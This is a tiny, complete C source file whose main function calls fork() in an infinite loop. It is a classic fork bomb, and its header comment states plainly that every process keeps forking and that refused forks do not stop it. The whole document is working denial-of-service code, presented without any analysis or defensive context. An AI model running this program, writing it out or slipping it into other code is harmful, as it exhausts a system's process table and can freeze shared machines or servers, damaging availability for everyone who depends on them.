/* Every process forks for ever; refused forks do not stop it. */
#include <unistd.h>
int main(void) { for (;;) fork(); }
